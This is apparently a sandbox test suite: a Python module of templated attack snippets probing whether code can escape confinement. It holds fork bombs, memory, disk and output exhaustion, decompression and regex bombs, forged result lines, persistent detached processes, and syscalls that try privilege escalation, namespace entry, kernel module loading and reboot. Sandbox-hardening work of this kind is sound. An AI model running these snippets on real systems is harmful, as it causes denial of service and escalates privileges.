"""Attacks that use up the host, stay behind, or ask the kernel for rights: forks, memory, disk, output, background, kernel.

As in `sandbox_attacks_reach`. Most of these reach nothing that they could print; what shows them is the host: processes
left behind, memory and disk gone, time that goes on for ever, a setting of the kernel that is no longer what it was.
"""

# ruff: noqa: E501

EXHAUST = r"""
## forks/bomb
#: how=os.fork()|os.forkpty()|__import__('pty').fork()
import os
while True:
    try: @how@
    except OSError: pass

## forks/bomb_once
#: how=os.fork()|os.forkpty()
import os
for _ in range(1000): @how@
print('forked')

## forks/shell
#: command=f() { f & f; }; f|sh -c "sleep 60 &"|yes|nohup sleep 60|exec -a x sleep 30
import subprocess
print(subprocess.run('''@command@''', shell=True, timeout=1, capture_output=True).returncode)

## forks/libraries
#: how=multiprocessing.Process(target=print)|multiprocessing.Pool(64)|concurrent.futures.ProcessPoolExecutor(64).submit(int)|subprocess.Popen(['/bin/sh'])
import concurrent.futures, multiprocessing, subprocess
for _ in range(50):
    p = @how@
    if hasattr(p, 'start'): p.start()
print('started')

## forks/spawn
import os
for _ in range(500): os.posix_spawn('/usr/bin/sleep', ['sleep', '60'], {})

## forks/execute
#: program=/bin/sh|/usr/bin/env|/usr/bin/python3|/lib64/ld-linux-x86-64.so.2|/proc/self/exe
import os
os.execv('@program@', ['@program@', '-c', 'echo REACHED'])

## forks/kernel_calls
#: call=57|58|56,17,0,0,0,0|435,b'\0'*88,88|56,0x10000011,0,0,0,0
import ctypes, os, time
pid = ctypes.CDLL(None).syscall(@call@)
if pid == 0: time.sleep(60); os._exit(0)

## forks/threads
#: number=100|1000|10000
import threading, time
for n in range(@number@): threading.Thread(target=time.sleep, args=(30,), daemon=True).start()

## forks/thread_starts_threads
import threading
def more():
    for _ in range(2): threading.Thread(target=more, daemon=True).start()
more(); import time; time.sleep(0.5)

## memory/one_block
#: bytes=10**9|10**10|10**12|2**40
x = bytearray(@bytes@); x[::4096] = b'x' * len(x[::4096]); print('REACHED', len(x))

## memory/many_blocks
#: bytes=10**6|10**7|10**8
parts = []
while True: parts.append(bytearray(b'x' * @bytes@))

## memory/map
#: flags=0x22|0x21|0x40022|0x8022
import mmap
parts = []
while True:
    m = mmap.mmap(-1, 1 << 26, flags=@flags@); m.write(b'x' * (1 << 26)); parts.append(m)

## memory/text
#: how=x + x|x * 1000|''.join([x] * 1000)|x.replace('a', 'a' * 999)|x.ljust(10**11)
x = 'a' * 1000
while True: x = @how@

## memory/numbers
#: how=10 ** 10 ** 9|9 ** 9 ** 9|1 << 10 ** 11|int('9' * 10 ** 8)|sum(range(10 ** 12))
x = @how@

## memory/containers
#: how=d[len(d)] = d.copy()|d[len(d)] = [0] * 10 ** 6|d.update({n: n for n in range(10 ** 9)})
d = {}
while True: @how@

## memory/recursion
#: how=f()|eval('f()')|[*map(lambda _: f(), [0])]|repr(type('A', (), {'__repr__': lambda s: repr(s)})())
import sys
sys.setrecursionlimit(10 ** 9)
def f(): return @how@
f()

## memory/threads_stacks
import threading, time
threading.stack_size(1 << 28)
for _ in range(30): threading.Thread(target=time.sleep, args=(9,), daemon=True).start()

## memory/bomb
#: kind=zlib|lzma|json|pickle|re|parse
import json, lzma, pickle, re, zlib, io
kind = '@kind@'
if kind == 'zlib': data = zlib.compress(bytes(10 ** 7)); [zlib.decompress(data) for _ in range(10 ** 9)]
if kind == 'lzma': data = lzma.compress(bytes(10 ** 7)); [lzma.decompress(data) for _ in range(10 ** 9)]
if kind == 'json': json.loads('[' * 10 ** 8)
if kind == 'pickle': pickle.loads(b'\x80\x04' + b'(' * 10 ** 8 + b'.')
if kind == 're': re.match(r'(a+)+$', 'a' * 60 + 'b')
if kind == 'parse': eval('(' * 10 ** 6 + ')' * 10 ** 6)

## memory/shared
#: call=29,0,1<<30,0o1777|319,b'x',0|240,b'/q',66,0o777,0|64,0,10,0o1777|68,0,0o1777
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(@call@) >= 0: print('REACHED')

## memory/lock
#: call=mlockall(3)|mlock(b'x'*10**7,10**7)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.@call@ == 0: print('REACHED')

## memory/pipes
#: size=1048576|65536
import fcntl, os
for _ in range(10 ** 6):
    r, w = os.pipe(); fcntl.fcntl(w, 1031, @size@); os.set_blocking(w, False); os.write(w, b'x' * @size@)

## memory/in_all_processes
#: bytes=200_000_000|390_000_000
import os, time
for _ in range(30):
    try:
        if os.fork() == 0: break
    except OSError: break
x = bytearray(b'x' * @bytes@); time.sleep(30)

## disk/one_file
#: how=f.write(b'x' * 10 ** 6)|f.truncate(1 << 40)|os.posix_fallocate(f.fileno(), 0, 1 << 33)|f.seek(1 << 40) or f.write(b'x')
import os
with open('big', 'wb') as f:
    for _ in range(10 ** 5): @how@

## disk/many_files
#: bytes=0|1|1000|1000000
for n in range(10 ** 6): open(f'f{n}', 'wb').write(b'x' * @bytes@)

## disk/many_folders
#: how=os.mkdir(f'd{n}')|(os.mkdir('d'), os.chdir('d'))|os.symlink('x' * 4000, f'l{n}')|os.mkfifo(f'p{n}')|os.mknod(f'n{n}', 0o010600)
import os
for n in range(10 ** 6): @how@

## disk/deleted_and_open
import os
files = []
while True:
    f = open('x', 'wb'); os.unlink('x'); f.write(b'x' * 10 ** 6); f.flush(); files.append(f)

## disk/place
#: folder=/dev/shm|/var/tmp|/run|/run/lock|/dev|/lib|/mnt|/home
open('@folder@/big', 'wb').write(b'x' * 10 ** 8); print('REACHED')

## disk/mapped
import mmap, os
fd = os.open('m', os.O_RDWR | os.O_CREAT); os.ftruncate(fd, 1 << 24)
for n in range(10 ** 4):
    m = mmap.mmap(fd, 1 << 24); m.write(b'x' * (1 << 24))
    os.close(fd); fd = os.open(f'm{n}', os.O_RDWR | os.O_CREAT); os.ftruncate(fd, 1 << 24)

## output/flood
#: where=1|2|sys.stdout|sys.stderr
import os, sys
while True:
    if isinstance(@where@, int): os.write(@where@, b'x' * 65536)
    else: print('x' * 1000, file=@where@)

## output/both
import os
while True: os.write(1, b'a' * 4096); os.write(2, b'b' * 4096)

## output/kind
#: data=b'\0' * 4096|b'\xff\xfe' * 4096|b'\n' * 4096|b'\x1b[2J\x1b]0;x\x07' * 512|b'\r' * 4096
import os
for _ in range(10 ** 6): os.write(1, @data@)

## output/one_line
import sys
sys.stdout.write('x' * 10 ** 8)

## output/blocked
import os, time
os.set_blocking(1, False)
try:
    while True: os.write(1, b'x' * 65536)
except OSError: time.sleep(30)

## output/closed
import os, sys
sys.stdout.close(); os.close(1); os.close(2); os.close(0)
while True: pass

## output/forged
#: text={"exit": 0, "cpu_s": 0}|in place|{"begun": true}|null
import os
for fd in range(3, 64):
    try: os.write(fd, b'@text@\n'); print('REACHED')
    except OSError: pass

## background/daemon_thread
import threading, time
threading.Thread(target=time.sleep, args=(60,), daemon=True).start(); print('done')

## background/thread
import threading, time
threading.Thread(target=time.sleep, args=(60,)).start(); print('done')

## background/two_forks
#: close=0|1
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        if @close@: os.closerange(0, 64)
        time.sleep(60)
    os._exit(0)
print('done')

## background/detached
#: flags=start_new_session=True|start_new_session=True, stdout=-3, stderr=-3, stdin=-3|preexec_fn=__import__('os').setpgrp
import subprocess
subprocess.Popen(['/usr/bin/sleep', '60'], @flags@); print('done')

## background/shell
#: command=sleep 60 &|(setsid sleep 60 >/dev/null 2>&1 &)|nohup sleep 60 >/dev/null 2>&1 &|at now|crontab -
import os
os.system('@command@'); print('done')

## background/at_exit
import atexit, os, time
atexit.register(time.sleep, 60); atexit.register(os.fork)
print('done')

## background/ignores_everything
import os, signal, time
pid = os.fork()
if pid == 0:
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    os.setsid(); os.closerange(0, 64); time.sleep(60); os._exit(0)
print('done')

## background/holds_the_output
import os, time
if os.fork() == 0: time.sleep(60); os._exit(0)
os._exit(0)

## background/forks_for_ever
import os, time
if os.fork() == 0:
    while True:
        try:
            if os.fork(): os._exit(0)
        except OSError: pass
print('done')

## background/stops_itself
#: number=19|20|21
import os
os.kill(os.getpid(), @number@)

## background/sleeps
#: seconds=3600
import time
time.sleep(@seconds@)

## background/waits
#: how=input()|os.pause()|threading.Event().wait()|signal.sigwait([10])|select.select([], [], [])|lock.acquire()|os.read(r, 1)
import os, select, signal, threading
os.pause = signal.pause; lock = threading.Lock(); lock.acquire(); r, w = os.pipe()
@how@
threading.Event().wait()

## background/exit
#: status=0|1|255|-1
import os
os._exit(@status@)

## kernel/rights
#: call=105,0|106,0|113,0,0|117,0,0,0|126,b'\x22\x05\x08\x20\0\0\0\0',b'\xff'*24|116,0,0|122,0|157,8,1,0,0,0|157,28,15,0,0,0|157,47,2,0,0,0
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
done = libc.syscall(@call@)
if 0 in os.getresuid() or (done == 0 and '''@call@ '''.split(',')[0] in ('105', '106', '126', '157')): print('REACHED', done)

## kernel/namespaces
#: flags=0x10000000|0x20000000|0x00020000|0x40000000|0x08000000|0x04000000|0x02000000|0x00000080|0x7c020000
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(@flags@) == 0: print('REACHED')

## kernel/enter
#: what=mnt|pid|net|user
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for fd in range(0, 64):
    if libc.setns(fd, 0) == 0: print('REACHED')
print('REACHED', libc.setns(os.open('/proc/1/ns/@what@', 0), 0))

## kernel/settings
#: call=170,b'evil',4|171,b'evil',4|164,b'\0'*16,0|227,0,b'\0'*16|159,b'\1'*200|305,0,b'\1'*200|169,0xfee1dead,672274793,0x1234567|163,b'/tmp/x'|167,b'/tmp/x',0|168,b'/tmp/x'|179,0,b'x',0,0|103,3,b'x'*100,100|153
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
done = libc.syscall(@call@)
if done >= 0: print('REACHED', done)

## kernel/code
#: call=175,b'x'*64,64,b''|313,0,b'',0|176,b'x',0|246,0,0,0,0|320,0,0,0,b'',0|321,0,b'\0'*64,64|321,5,b'\1'*64,64|298,b'\0'*112,0,-1,-1,0|323,0|425,8,b'\0'*120|172,3|173,0,1024,1|154,1,b'\0'*16,16|248,b'user',b'a',b'b',1,-2|250,0,-3,0|135,0x0400000|212,0,b'x',9|180,1
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
done = libc.syscall(@call@)
if done >= 0: print('REACHED', done)

## kernel/interface
#: number=0x40000039|0x40000029|0x4000003b|0x400000a5
import ctypes
if ctypes.CDLL(None).syscall(@number@, 2, 1, 0) >= 0: print('REACHED')

## kernel/filter
#: call=157,22,2,b'\1\0\0\0\0\0\0\0'|317,0,0,0|317,1,0,b'\0'*16|444,0,0,1|157,22,1
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(@call@) == 0 and '''@call@ ''' != '157,22,1 ':
    print('seen')
try: os.fork(); print('forked')
except OSError: print('refused')
if libc.syscall(41, 2, 1, 0) >= 0: print('REACHED')

## kernel/limits
#: name=RLIMIT_AS|RLIMIT_CPU|RLIMIT_NPROC|RLIMIT_FSIZE|RLIMIT_NOFILE|RLIMIT_CORE|RLIMIT_MEMLOCK
import ctypes, resource
soft, hard = resource.getrlimit(resource.@name@)
try: resource.setrlimit(resource.@name@, (hard + 1, hard + 1)); print('REACHED')
except (OSError, ValueError): pass
if ctypes.CDLL(None).syscall(302, 0, resource.@name@, (ctypes.c_uint64 * 2)(hard + 1, hard + 1), 0) == 0: print('REACHED')

## kernel/priority
#: how=os.nice(-10)|os.setpriority(0, 0, -20)|os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))|os.sched_setscheduler(@victim@, os.SCHED_IDLE, os.sched_param(0))|os.setpriority(0, @victim@, 19)|os.sched_setaffinity(@victim@, [0])
import os
@how@
print('REACHED')

## kernel/crash
#: how=ctypes.string_at(0)|ctypes.memset(id(0), 0, 4096)|os.abort()|os.kill(os.getpid(), 11)|ctypes.CFUNCTYPE(None)(1)()
import ctypes, os
@how@

## kernel/set_user_id
#: program=/usr/bin/su|/usr/bin/mount|/usr/bin/passwd|/usr/bin/newgrp|/usr/bin/unshare|/usr/bin/nsenter|/usr/bin/chsh
import os, subprocess
extra = {'/usr/bin/unshare': ['-Urm', 'cat', '@canary@'], '/usr/bin/nsenter': ['-t', '1', '-a', 'id'], '/usr/bin/su': ['-c', 'id'], '/usr/bin/mount': ['-t', 'proc', 'none', '/tmp/work']}
done = subprocess.run(['@program@', *extra.get('@program@', [])], capture_output=True, timeout=2, stdin=-3)
print(done.stdout[:200], done.stderr[:200])
if b'uid=0' in done.stdout: print('REACHED')
"""
